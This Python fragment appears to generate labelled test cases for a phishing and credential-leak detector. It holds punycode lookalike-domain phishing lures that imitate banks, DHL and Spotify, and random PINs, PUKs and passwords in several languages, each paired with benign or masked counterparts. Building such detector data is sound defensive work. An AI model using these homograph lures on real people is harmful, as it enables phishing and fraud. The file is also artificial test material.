    f'Rabobank: uw pas verloopt, verleng via https://{puny("rabóbank.nl")}/pas',
    f'DHL Express - customs duty unpaid: https://{puny("dhl-expréss.com")}/pay',
    f'Credit Agricole : activez votre cle digitale https://{puny("créditagricole.fr")}/cle',
    f'Spotify Premium on hold - update billing at https://{puny("spötify.com")}/billing',
]
N_OK = [
    f'Café Zoé bookings: https://{puny("café-zoé.fr")}/reserver',
    f'Order from Müller Bäckerei at https://www.{puny("müller-bäckerei.de")}/',
    f'Øresund Ferries timetable: https://{puny("øresund-ferries.dk")}/times',
    f'Ristorante Perù: https://{puny("ristoranteperù.it")}/menu',
    f'Ski rental at Señorío: https://{puny("señorío.es")}/alquiler',
    f'Hôtel Bellevue, Genève: https://www.{puny("hôtel-bellevue.ch")}/',
]
corpus.add('ur104n', ['adversarial_url'], [CARRIERS[i % len(CARRIERS)](x) for i, x in enumerate(N_POS)], source='web', wrap=False)
corpus.add('ok104n', [], [CARRIERS[(i + 2) % len(CARRIERS)](x) for i, x in enumerate(N_OK)], source='web', wrap=False)

# Added for the secrets still left, measured before their readings: cl104r, a SIM card's PUK beside or without its PIN,
# and a password under Northern Sotho's `phasewete`; ok104r, a PUK talked about (its length, where it is printed, a
# mask) and `phasewete` before a pointer or a placeholder.
def puk(): return str(r.randint(10000000, 99999999))
R_POS = [
    lambda: f'Nowa karta SIM - PIN {r.randint(1000, 9999)}, PUK {puk()}',
    lambda: f'SIM for the field tablet: PUK: {puk()}',
    lambda: f'Ersatz-SIM angekommen (PUK {puk()})',
    lambda: f'PUK code is {puk()} if the phone locks again',
    lambda: f'Phasewete: {corpus.password(12)}',
    lambda: f'phasewete ya wifi ya ofisi: {corpus.password(11)}',
]
R_OK = [
    lambda: 'The PUK is 8 digits long and printed on the card holder.',
    lambda: 'Lost your PUK? Call support, we never send it by e-mail.',
    lambda: 'PUK: ******** (see the SIM card holder)',
    lambda: 'Enter the PUK code when the phone asks for it.',
    lambda: 'Phasewete: <ya gago>',
    lambda: 'Phasewete e swanetse go ba le ditlhaka tse 12.',
]
r_pos, r_sec = [], []
for i in range(6):
    t = R_POS[i]()
    r_sec.append(t.rstrip(')').split()[-1] if 'if the phone' not in t else t.split()[3])
    r_pos.append(CARRIERS[i % len(CARRIERS)](t))
corpus.add('cl104r', ['credential_leak'], r_pos, source='tool_output', wrap=False, secrets=r_sec)
corpus.add('ok104r', [], [CARRIERS[(i + 2) % len(CARRIERS)](R_OK[i]()) for i in range(6)], source='tool_output', wrap=False)

# cl104b: a login pair whose password's label follows the user's name after a blank only ("Benutzer X Kennwort Y"), in
# German, Polish, Turkish, Dutch, Swedish, Finnish; ok104b: the same pairs before a word, a mask, a pointer or a question.
def uname(): return r.choice(['m.huber', 'jkowal', 'ayse.k', 'pvdberg', 'lindqvist', 'tvirtanen', 'ops-bot'])
B_POS = [
    lambda v: f'Zugang Staging: Benutzer {uname()} Kennwort {v}',
    lambda v: f'konto testowe - użytkownik {uname()} hasło {v}',
    lambda v: f'VPN girişi: kullanıcı {uname()} şifre {v}',
    lambda v: f'Demo omgeving gebruiker {uname()} wachtwoord {v}',
    lambda v: f'Testmiljö: användare {uname()} lösenord {v}',
    lambda v: f'Benutzername {uname()} Passwort {v} (bis Freitag gültig)',
]
B_OK = [
    'Zugang Staging: Benutzer m.huber Kennwort vergessen, bitte zurücksetzen',
    'konto testowe - użytkownik jkowal hasło ********',
    'VPN girişi: kullanıcı ayse.k şifre sıfırlama talep etti',
    'Demo omgeving gebruiker pvdberg wachtwoord verlopen?',
    'Testmiljö: användare lindqvist lösenord finns i valvet',
    'Benutzername tvirtanen Passwort <siehe Passwortmanager>',
]
b_pos, b_sec = [], []
for i in range(6):
    v = corpus.password(r.randint(10, 13))
    b_pos.append(CARRIERS[(i + 1) % len(CARRIERS)](B_POS[i](v)))
    b_sec.append(v)
corpus.add('cl104b', ['credential_leak'], b_pos, source='tool_output', wrap=False, secrets=b_sec)
corpus.add('ok104b', [], [CARRIERS[(i + 3) % len(CARRIERS)](x) for i, x in enumerate(B_OK)], source='tool_output', wrap=False)

corpus.write('cases-104')
